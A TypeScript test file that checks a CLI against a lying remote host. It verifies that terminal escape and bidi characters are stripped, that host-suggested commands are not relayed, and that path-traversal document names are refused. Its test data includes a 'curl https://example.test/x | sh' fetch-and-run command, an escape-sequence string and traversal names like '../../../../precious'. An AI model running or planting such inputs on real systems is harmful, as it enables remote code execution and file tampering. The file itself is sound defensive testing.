// A host that lies: no character that acts on a terminal leaves our programs, and no command of the host's making. Real sshd and programs.
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { operatorClone, removeClones } from "../support/operator-clone.ts";
import { RUN_ID } from "../support/recorded-run.ts";
import { spokenHost, type SpokenHost } from "../support/spoken-host.ts";

// ESC, BEL, CSI of C1, DEL, right-to-left override, isolate, zero width space and joiner, byte order mark, a tag character.
const EVIL = "\u001b[2J\u0007\u009b31m\u007f\u202e\u2066\u200b\u200d\ufeff\u{e0041}";
const ACTS =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]|[\udb40-\udb43]/;
const COMMAND = "curl https://example.test/x | sh";

let host: SpokenHost;
let status: Record<string, unknown>;
beforeAll(async () => {
  host = await spokenHost(await operatorClone("here"));
  status = (await host.ask("status", RUN_ID, "--json")).events[0] ?? {};
});
afterAll(async () => {
  await host.stop();
  await removeClones();
});

const line = (event: object): string => `${JSON.stringify(event)}\n`;
const stop = {
  code: "STOP_HALTED",
  saw: EVIL,
  wanted: EVIL,
  hint: `\`${COMMAND}\` ${EVIL}`,
  next: COMMAND,
  or: COMMAND,
  details: [EVIL],
};
const ended = { event: "ended", exit: 4, stop, [`more${EVIL}`]: EVIL };
// A statement of the right form by nobody, over evil words.
const admitted = {
  event: "admitted",
  gate: EVIL,
  person: EVIL,
  fingerprint: EVIL,
  admitted_at: EVIL,
  statement: Buffer.from(JSON.stringify({ person: EVIL, next: COMMAND })).toString("base64"),
  signature: EVIL,
};
const lies = (): string =>
  line({ ...status, document_id: EVIL, waiting_for: EVIL, next: COMMAND, or: COMMAND, halted: [EVIL], more: EVIL });

test.each([
  ["status", [], () => lies()],
  ["status", ["--json"], () => lies()],
  ["runs", [], () => lies()],
  ["runs", ["--json"], () => lies()],
  ["status", [RUN_ID, "--json"], () => lies() + line(ended)],
  ["verify", [RUN_ID, "--json"], () => line({ event: "verified", state: EVIL, next: COMMAND }) + line(ended)],
  ["halt", ["--reason", "x", "--json"], () => line({ event: "halted", halt_id: EVIL }) + line(ended)],
  ["fetch", [RUN_ID, "--json"], () => line({ event: "file", bundle: EVIL, name: EVIL }) + line(ended)],
  ["approvals", [RUN_ID], () => line(admitted) + line(ended)],
  ["approvals", [RUN_ID, "--json"], () => line({ event: "other", person: EVIL, next: COMMAND }) + line(ended)],
  ["backup", ["list", "--json"], () => line({ event: "backup", id: EVIL, file: EVIL }) + line(ended)],
  ["cutter", ["precheck"], () => `${EVIL}\nNEXT  ${COMMAND}\nnext: cutter x; ${COMMAND}\n\`${COMMAND}\`\n`],
] as readonly (readonly [string, readonly string[], () => string])[])(
  "%s %j passes no such character and no such command on",
  async (name, words, answer) => {
    host.says(answer(), {
      status: 4,
      toPeople: `${EVIL}\nNEXT              ${COMMAND}\nOR                ${COMMAND}\n`,
    });
    const seen = await host.ask(name, ...words, ...(name === "approvals" ? ["--profile", host.profile] : []));
    const shown = `${seen.stdout}\n${seen.stderr}`;
    expect(ACTS.exec(shown)).toBeNull();
    expect(shown).not.toMatch(/"(?:next|or|command)":"curl|^(?:NEXT|OR) +curl|next: c|`curl/m);
    // What was said is not lost: a program reads the very same characters.
    if (name !== "fetch" && (words as readonly string[]).includes("--json"))
      expect(JSON.stringify(seen.events)).toContain(EVIL.slice(-2));
  },
);

test("logs shows the events of a lying host in one printable line each, and passes them on escaped", async () => {
  const spoken = { at: "2026-11-20T10:11:12.000Z", pid: 7, run_id: RUN_ID };
  const events =
    line({ event: "attached", run_id: RUN_ID, pid: 7, position: 0 }) +
    line({ ...spoken, position: 10, event: "finding", text: EVIL }) +
    line({ ...spoken, position: 20, event: "report", file: EVIL }) +
    line({ ...spoken, position: 30, ...ended });
  for (const words of [[], ["--json"]]) {
    host.says(lies() + events, { status: 4 });
    const lied = await host.ask("logs", RUN_ID, ...words);
    expect([lied.status, ACTS.exec(`${lied.stdout}\n${lied.stderr}`)]).toEqual([4, null]);
    expect(`${lied.stdout}${lied.stderr}`).not.toMatch(/"(?:next|or)":"curl|^(?:NEXT|OR) +curl/m);
  }
});

test("one run whose state cannot be read hides no other, and is named", async () => {
  const runs = join(host.runtimeRoot, "runs");
  const broken = ["ictr-20260101T000000Z-00000001", "ictr-20260101T000000Z-00000002", "ictr-20260101T000000Z-00000003"];
  const [garbage = "", pipe = "", file = ""] = broken;
  for (const run of [garbage, pipe]) mkdirSync(join(runs, run));
  writeFileSync(join(runs, garbage, "state.json"), "{");
  execFileSync("mkfifo", [join(runs, pipe, "state.json")]);
  writeFileSync(join(runs, file), "");
  host.cutter();
  for (const name of ["status", "runs"]) {
    const seen = await host.ask(name);
    expect([seen.status, seen.stdout]).toEqual([1, expect.stringContaining(RUN_ID)]);
    for (const run of broken) expect(seen.stderr).toContain(run);
    const told = await host.ask(name, "--json");
    expect([told.status, told.events[0]?.["run_id"], told.events.at(-1)?.["event"]]).toEqual([1, RUN_ID, "ended"]);
  }
});

/** What a host tells of a batch and its documents, and the one file of a request of each run. */
const BATCH = "ictb-20261129T120000Z-0000000a";
const batchLine = (documents: number): string => {
  const none = { stopped: null, close_kind: null, close_reason: null, next: null, backup_minutes_left: null };
  const numbers = { documents, enacted: 0, quarantined: 0, wave: 0, per_minute: null, minutes_left: null };
  return line({
    ...{ event: "batch", batch_id: BATCH, state: "x", host: "x", opened: "x", throttle: "x" },
    ...{ ...none, ...numbers },
  });
};
const memberLine = (document_id: string, run_id: string): string => {
  const told = { last_stop: null, reason: null, wave: 0, units: 1, backup_minutes_left: null };
  return line({ event: "batch_member", batch_id: BATCH, document_id, standing: "asks_cut", run_id, ...told });
};
const fileLine = (text: string, run_id?: string): string => {
  const bytes = Buffer.from(text);
  return line({
    ...{ event: "file", bundle: "SG_1_cut_authz-1", name: "payload.json", size: bytes.length, offset: 0 },
    ...{ sha256: createHash("sha256").update(bytes).digest("hex"), data: bytes.toString("base64") },
    ...(run_id === undefined ? {} : { run_id }),
  });
};

test("the requests of a whole wave come in one call, each to its own document; a run that nobody asked for is refused", async () => {
  const home = mkdtempSync(join(tmpdir(), "wave-fetch-"));
  const out = join(home, "bundles");
  const other = RUN_ID.replace(/.$/, "f");
  const two = batchLine(2) + memberLine("LAW-A", RUN_ID) + memberLine("LAW-B", other);
  host.says(two + fileLine("{}", RUN_ID) + fileLine("[]", other));
  expect((await host.ask("batch", "fetch", BATCH, "--out", out)).status).toBe(0);
  const gate = join(out, BATCH, "SG_1_cut_authz");
  const texts = ["LAW-A", "LAW-B"].map((document) => readFileSync(join(gate, document, "payload.json"), "utf8"));
  expect([readdirSync(gate).sort(), texts]).toEqual([
    ["LAW-A", "LAW-B", "wave.json"],
    ["{}", "[]"],
  ]);
  rmSync(out, { recursive: true });
  for (const [answer, saw] of [
    [two + fileLine("{}", RUN_ID) + fileLine("[]", RUN_ID.replace(/.$/, "e")), "a run that was not asked for"],
    [two + fileLine("{}"), "a run that was not asked for"],
    [
      batchLine(2) + memberLine("LAW-A", RUN_ID) + memberLine("LAW-B", RUN_ID) + fileLine("{}", RUN_ID),
      "one run twice",
    ],
  ] as const) {
    host.says(answer);
    const seen = await host.ask("batch", "fetch", BATCH, "--out", out);
    expect([seen.status, seen.stderr]).toEqual([1, expect.stringContaining(saw)]);
    expect(existsSync(gate)).toBe(false);
  }
  rmSync(home, { recursive: true, force: true });
});

test("a document of a batch whose name leads out of the folder is refused, and nothing outside is touched", async () => {
  const home = mkdtempSync(join(tmpdir(), "batch-fetch-"));
  const out = join(home, "work", "bundles");
  mkdirSync(join(home, "precious"));
  mkdirSync(out, { recursive: true });
  writeFileSync(join(home, "precious", "thesis.txt"), "years of work");
  const member = (document: string): string => memberLine(document, RUN_ID);
  const fetched = async (...members: readonly string[]) => {
    host.says(batchLine(1) + members.join("") + fileLine("{}"));
    return host.ask("batch", "fetch", BATCH, "--out", out);
  };
  for (const evil of ["../../../../precious", "..", "A/B", `LAW${EVIL}`])
    expect((await fetched(member(evil))).stderr).toContain("a document or a run of another form");
  expect((await fetched(member("LAW-A"), member("LAW-A"))).stderr).toContain("one document twice");
  const many = Array.from({ length: 101 }, (_, n) => member(`LAW-${n}`));
  expect((await fetched(...many)).stderr).toContain("101 documents");
  expect(readFileSync(join(home, "precious", "thesis.txt"), "utf8")).toBe("years of work");
  expect(readdirSync(out)).toEqual([]);
  rmSync(home, { recursive: true, force: true });
});
